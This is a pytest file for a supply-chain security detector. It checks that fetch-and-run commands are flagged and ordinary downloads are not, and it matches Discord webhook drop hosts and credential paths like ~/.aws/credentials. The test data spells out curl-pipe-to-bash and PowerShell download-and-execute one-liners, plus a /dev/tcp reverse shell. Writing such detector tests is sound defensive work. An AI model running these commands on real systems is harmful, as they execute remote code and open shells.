"""Commands that fetch and run are known in many spellings; ordinary commands are not taken for them."""

import pytest

from bartizan.supply.packages.indicators import DROP_HOST, SECRET_PLACE, remote_command


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://a.invalid/i.sh | bash",
        "wget -qO- https://a.invalid | sudo -E sh",
        'bash -c "$(curl -s https://a.invalid)"',
        "bash <(curl -s https://a.invalid)",
        'eval "$(wget -qO- https://a.invalid)"',
        "curl https://a.invalid/x.py | python3 -",
        "iex (New-Object Net.WebClient).DownloadString('https://a.invalid')",
        "irm https://a.invalid/i.ps1 | iex",
        "powershell -enc " + "QQBB" * 8,
        "curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x",
        "echo aGk= | base64 -d | bash",
        "bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
        "certutil -urlcache -f https://a.invalid/x.exe x.exe",
    ],
)
def test_fetch_and_run(command):
    """One each."""
    assert remote_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl https://api.invalid/v1 | jq .name",
        "curl -o data.csv https://a.invalid/data.csv",
        "wget https://a.invalid/model.safetensors",
        "pip install -r requirements.txt",
        "bash scripts/build.sh",
        "echo hello | base64 -d",
    ],
)
def test_ordinary_commands(command):
    """Downloading data is not running it."""
    assert not remote_command(command)


def test_places():
    """Where loot goes and where it comes from."""
    assert DROP_HOST.search("https://discord.com/api/webhooks/1/x")
    assert not DROP_HOST.search("https://discord.com/invite/x")
    assert SECRET_PLACE.search("~/.aws/credentials")
    assert not SECRET_PLACE.search("settings.toml")
